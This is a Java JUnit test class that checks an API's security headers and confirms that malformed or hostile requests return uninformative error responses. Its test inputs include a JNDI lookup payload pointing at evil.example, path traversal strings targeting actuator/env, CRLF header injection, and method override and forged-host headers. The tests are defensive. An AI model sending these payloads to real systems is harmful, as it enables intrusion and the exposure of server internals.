package io.dsrbroker.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What every answer says to browsers, and what none says to anybody. */
class HeadersTests extends ApiTestCase {

    private static final String ALL =
            Tokens.of("ann", "dsr.create", "dsr.read", "dsr.approve", "dsr.operate", "dsr.download", "dsr.audit");

    /** What would tell of the inside. */
    private static final Pattern INSIDE = Pattern.compile(
            "java\\.|org\\.(spring|hibernate|apache|postgresql)|Exception|\\bat io\\.|dsrbroker|(?i)\\bselect |PSQL|Tomcat|<html");

    private static final String JWKS = "/.well-known/jwks.json";

    private static void assertSafe(HttpResponse<?> answer, String what) {
        var headers = answer.headers();
        assertThat(headers.firstValue("X-Content-Type-Options")).as(what).contains("nosniff");
        assertThat(headers.firstValue("X-Frame-Options")).as(what).contains("DENY");
        assertThat(headers.firstValue("Referrer-Policy")).as(what).contains("no-referrer");
        assertThat(headers.firstValue("Cross-Origin-Resource-Policy")).as(what).contains("same-origin");
        assertThat(headers.allValues("Cache-Control"))
                .as(what)
                .containsExactly(what.endsWith(JWKS) ? "max-age=300, public" : "no-store");
        assertThat(headers.allValues("Content-Security-Policy"))
                .as(what)
                .hasSize(1)
                .first()
                .asString()
                .startsWith("default-src 'none'")
                .contains("frame-ancestors 'none'");
        assertThat(headers.map().keySet())
                .as(what)
                .noneMatch(name -> name.toLowerCase(Locale.ROOT).startsWith("access-control"))
                .doesNotContain("server", "x-powered-by", "set-cookie");
    }

    @TestFactory
    Stream<DynamicTest> everyOperationAnswersThem() {
        UUID job = submitted();
        return json(get("/v3/api-docs").send()).get("paths").properties().stream()
                .flatMap(path -> path.getValue().propertyNames().stream()
                        .filter(method -> !path.getKey().endsWith("/events"))
                        .map(method -> DynamicTest.dynamicTest(method + " " + path.getKey(), () -> {
                            String url = path.getKey()
                                    .replaceAll("\\{(id|taskId)}", job.toString())
                                    .replaceAll("\\{[^}]+}", "lab");
                            String verb = method.toUpperCase(Locale.ROOT);
                            assertSafe(
                                    call(verb, url)
                                            .as(ALL)
                                            .header("Origin", "https://evil.example")
                                            .send(),
                                    "a good token for " + url);
                            assertSafe(call(verb, url).json(verb, "{}").as(ALL).send(), "an empty body for " + url);
                            assertSafe(call(verb, url).send(), "no token for " + url);
                        })));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/v3/api-docs",
                "/swagger-ui.html",
                "/error",
                "/elsewhere",
                "/api/v1/nothing",
                "/problems/not-found",
                "/"
            })
    void pagesThatAreNoOperationsAnswerThemToo(String path) {
        assertSafe(get(path).send(), path);
    }

    @Test
    void swaggerUiMayRunItsOwnScriptsOnlyAndHasNoOthers() {
        HttpResponse<String> page = get("/swagger-ui/index.html").send();
        assertSafe(page, "Swagger UI");
        assertThat(page.headers().firstValue("Content-Security-Policy").orElse(""))
                .contains("script-src 'self';")
                .contains("connect-src 'self';");
        assertThat(page.body()).doesNotContainPattern("<script(?![^>]*src=)[^>]*>");
        assertThat(page.body()).doesNotContainPattern("(src|href)=\"(https?:)?//");
        assertThat(get("/swagger-ui/swagger-initializer.js").send().statusCode())
                .isEqualTo(200);
    }

    @Test
    void onlyEncryptedAnswersAskForEncryption() {
        assertThat(get("/api/v1/catalogue").as(ALL).send().headers().firstValue("Strict-Transport-Security"))
                .isEmpty();
        assertThat(get("/api/v1/catalogue")
                        .as(ALL)
                        .header("X-Forwarded-Proto", "https")
                        .send()
                        .headers()
                        .firstValue("Strict-Transport-Security")
                        .orElse(""))
                .startsWith("max-age=31536000");
    }

    @Test
    void preflightsGetNothing() {
        HttpResponse<String> answer = call("OPTIONS", "/api/v1/requests")
                .header("Origin", "https://evil.example")
                .header("Access-Control-Request-Method", "POST")
                .send();
        assertProblem(answer, 401, "unauthenticated");
        assertSafe(answer, "a preflight");
    }

    private String raw(String head) throws IOException {
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(20_000);
            socket.getOutputStream()
                    .write((head + "\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                            .getBytes(StandardCharsets.ISO_8859_1));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static List<String> malformed() {
        return List.of(
                "GET /api/v1/requests/%",
                "GET /api/v1/requests/%zz",
                "GET /api/v1/requests/..;/..;/actuator/env",
                "GET /api/v1/requests/../../actuator/env",
                "GET /api/v1//requests",
                "GET //api/v1/requests",
                "GET /api/v1/requests%2Fx",
                "GET /api/v1/requests%5Cx",
                "GET /api/v1/requests/%00",
                "GET /api/v1/requests/a\u0001b",
                "GET /api/v1/requests;jsessionid=1",
                "GET /api/v1/targets/%252e%252e%252f",
                "GET /api/v1/targets/%0d%0aSet-Cookie:%20a=b",
                "GET /api/v1/requests?limit=%zz",
                "GET /api/v1/requests?limit=%ff%fe",
                "GET /api/v1/requests?" + "a=1&".repeat(1500),
                "GET /" + "a".repeat(20_000),
                "TRACE /api/v1/requests",
                "TRACK /api/v1/requests",
                "CONNECT /api/v1/requests",
                "NONSENSE /api/v1/requests",
                "POST /api/v1/requests");
    }

    @TestFactory
    Stream<DynamicTest> malformedCallsGetAProblemThatTellsNothing() {
        return malformed().stream()
                .flatMap(line -> Stream.of(line, line + " as somebody"))
                .map(line -> DynamicTest.dynamicTest(line.substring(0, Math.min(line.length(), 60)), () -> {
                    boolean known = line.endsWith(" as somebody");
                    String target = known ? line.substring(0, line.length() - 12) : line;
                    String answer = raw(target + " HTTP/1.1" + (known ? "\r\nAuthorization: Bearer " + ALL : ""));
                    assertThat(answer).matches("(?s)HTTP/1\\.1 (4\\d\\d|501).*").contains("application/problem+json");
                    assertThat(answer).contains("X-Content-Type-Options: nosniff", "Cache-Control: no-store");
                    assertThat(answer).doesNotContainPattern(INSIDE).doesNotContainIgnoringCase("\r\nset-cookie");
                }));
    }

    @TestFactory
    Stream<DynamicTest> oddHeadersGetAProblemOrAreIgnored() {
        return Stream.of(
                        "Accept: ;;;",
                        "Accept: */*;q=nonsense",
                        "Accept-Charset: nonsense",
                        "Accept-Language: ${jndi:ldap://evil.example/a}",
                        "Range: bytes=9999999999999999999-",
                        "Range: nonsense",
                        "If-None-Match: \"\u00ff",
                        "If-None-Match: " + "\"a\",".repeat(1000),
                        "If-Modified-Since: nonsense",
                        "Content-Type: nonsense",
                        "Content-Type: application/json; charset=nonsense",
                        "Content-Length: nonsense",
                        "Content-Length: -1",
                        "Transfer-Encoding: nonsense",
                        "X-HTTP-Method-Override: DELETE",
                        "X-Forwarded-Host: evil.example",
                        "X-Forwarded-Prefix: /evil",
                        "Cookie: JSESSIONID=1",
                        "X-Long: " + "x".repeat(20_000),
                        "X-Forged: a\rb",
                        "Authorization: Basic YTpi",
                        "Authorization: Bearer \u00e4")
                .map(header -> DynamicTest.dynamicTest(header.substring(0, Math.min(header.length(), 50)), () -> {
                    String answer = raw(
                            "GET /api/v1/requests?limit=1 HTTP/1.1\r\nAuthorization: Bearer " + ALL + "\r\n" + header);
                    assertThat(answer).matches("(?s)HTTP/1\\.1 (200|4\\d\\d|501).*");
                    assertThat(answer).contains("X-Content-Type-Options: nosniff");
                    assertThat(answer).doesNotContainPattern(INSIDE).doesNotContain("evil.example", "/evil");
                }));
    }

    @Test
    void methodIsWhatTheRequestLineSays() {
        estate.put(
                "kept",
                new io.dsrbroker.job.Target(
                        "kept",
                        io.dsrbroker.job.TargetKind.GALLERY_AUTHOR,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null),
                io.dsrbroker.job.Caller.SYSTEM);
        HttpResponse<String> answer = call("POST", "/api/v1/targets/kept?_method=DELETE")
                .header("X-HTTP-Method-Override", "DELETE")
                .as(ALL)
                .send();
        assertProblem(answer, 405, "method-not-allowed");
        assertThat(estate.find("kept")).isPresent();
        estate.remove("kept", io.dsrbroker.job.Caller.SYSTEM);
    }

    @Test
    void faultsOfTheDatabaseTellNothing() {
        UUID job = submitted();
        DATABASE.tamper("alter table job rename to hidden");
        try {
            for (String path : List.of("", "/resources", "/plan")) {
                HttpResponse<String> answer =
                        get("/api/v1/requests/" + job + path).as(ALL).send();
                assertProblem(answer, 500, "internal-error");
                assertThat(answer.body()).doesNotContainPattern(INSIDE).doesNotContain("job\" ", "relation");
                assertSafe(answer, path);
            }
            HttpResponse<String> answer = submit(EXPORT);
            assertProblem(answer, 500, "internal-error");
            assertThat(answer.body()).doesNotContainPattern(INSIDE).doesNotContain(AUTHOR);
        } finally {
            DATABASE.tamper("alter table hidden rename to job");
        }
    }
}
